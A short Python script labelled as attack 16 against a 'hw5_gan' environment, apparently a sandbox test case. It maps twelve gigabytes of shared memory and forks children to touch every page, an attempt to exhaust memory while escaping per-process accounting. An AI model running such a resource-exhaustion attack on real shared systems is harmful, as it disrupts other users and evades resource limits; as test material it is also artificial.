# attack: 16 | earns: nothing | needs: another user id | in: hw5_gan | tries: let processes touch memory that is shared, and end: it is then resident in none
import mmap as _mmap
import os as _os

_kept = []
for _ in range(12):
    _part = _mmap.mmap(-1, 2**30)
    _kept.append(_part)
    for _quarter in range(4):
        if _os.fork() == 0:
            for _page in range(_quarter * 2**28, (_quarter + 1) * 2**28, 4096):
                _part[_page] = 1
            _os._exit(0)
        try:
            _os.wait()
        except ChildProcessError:
            continue
print("LEAK twelve gigabytes are in use")
